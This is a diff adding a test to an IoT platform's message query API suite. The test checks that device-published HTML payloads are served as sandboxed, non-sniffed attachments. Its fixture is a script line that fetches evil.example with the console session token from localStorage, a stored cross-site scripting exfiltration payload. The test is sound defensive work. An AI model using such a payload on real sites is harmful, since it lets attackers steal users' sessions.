@@ -165,6 +165,23 @@ describe('message query API', () => {
     expectProblem(await api('GET', `/channels/${ch}/payloads/999`, { token: t }), 404);
   });
 
+  it('serves a payload a device published as HTML so that it can never run as a page on the console\'s origin', async () => {
+    const other = (await api('POST', `/orgs/${org}/channels`, { token: t, body: { name: 'html' } })).body.id as string;
+    const html = '<script>fetch("https://evil.example/?" + localStorage["edgeflux.session"])</script>';
+    const sent = await api('POST', `/channels/${other}/messages`, { token: t, raw: html, headers: { 'content-type': 'text/html' } });
+    expect(sent.status).toBe(202);
+    expect(await drain(other)).toBe(true);
+    // A plain link, as a victim would open it (the credential in the query).
+    const res = await worker.fetch(`http://edgeflux.test/channels/${other}/payloads/${sent.body.seq}?authorization=${encodeURIComponent(`Bearer ${t}`)}`);
+    expect(res.status).toBe(200);
+    expect(await res.text()).toBe(html); // byte for byte, with its type, for the SDK and curl…
+    expect(res.headers.get('content-type')).toMatch(/^text\/html/);
+    // …but saved, not shown; never sniffed; and sandboxed with nothing allowed if shown anyway.
+    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="[\w.-]+"$/);
+    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(res.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'");
+  });
+
   it('aggregates SenML values into time buckets', async () => {
     const agg = async (a: string, interval?: string) => (await q(`format=senml&name=sensor/temp&aggregation=${a}&order=asc${interval ? `&interval=${interval}` : ''}`)).body.items;
     expect(await agg('avg')).toEqual([{ time: T0 * 1000, name: 'sensor/temp', value: 22.5, count: 6 }]);
